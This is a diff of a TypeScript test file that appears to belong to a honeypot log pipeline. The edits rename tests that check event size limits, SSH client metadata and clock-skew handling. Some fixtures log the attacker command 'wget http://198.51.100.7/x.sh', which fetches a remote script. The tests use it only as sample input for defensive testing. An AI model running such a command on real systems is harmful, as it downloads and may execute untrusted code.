@@ -78,7 +78,7 @@ const checkBounded = async (ip: string) => {
   return events
 }
 
-test("D42: 40 environment variables of 4000 'é' keep each event within 16 KiB, its own command kept, the cut shown; the webhook copy keeps the command", async () => {
+test("40 environment variables of 4000 'é' keep each event within 16 KiB, its own command kept, the cut shown; the webhook copy keeps the command", async () => {
   const ip = "192.0.2.150"
   const s = "clientcap01"
   const lines = [
@@ -99,7 +99,7 @@ test("D42: 40 environment variables of 4000 'é' keep each event within 16 KiB, 
   expect(commandInWebhook?.attackerInput.command).toBe("wget http://198.51.100.7/x.sh")
 })
 
-test("D42: the same bound when the variables arrive after the events, in several requests", async () => {
+test("the same bound when the variables arrive after the events, in several requests", async () => {
   const ip = "192.0.2.151"
   const s = "clientcap02"
   const first = [connect(s, ip), line(s, ip, 50, "cowrie.command.input", { input: "wget http://198.51.100.7/x.sh" })]
@@ -111,7 +111,7 @@ test("D42: the same bound when the variables arrive after the events, in several
   await checkBounded(ip)
 })
 
-test("D42: a session's client members are kept once per session, bounded; a merged line that changes nothing rewrites no event", async () => {
+test("a session's client members are kept once per session, bounded; a merged line that changes nothing rewrites no event", async () => {
   const ip = "192.0.2.152"
   const s = "clientcap03"
   const lines = [
@@ -149,7 +149,7 @@ test("D42: a session's client members are kept once per session, bounded; a merg
   for (const e of events) expect(e.attackerInput.clientVersion).toBe("SSH-2.0-Go")
 })
 
-test("D42/D36: a connect line rejected for clock skew teaches nothing: the session's later lines keep the defaults", async () => {
+test("a connect line rejected for clock skew teaches nothing: the session's later lines keep the defaults", async () => {
   const ip = "192.0.2.153"
   const s = "skewconn01"
   const ahead = {
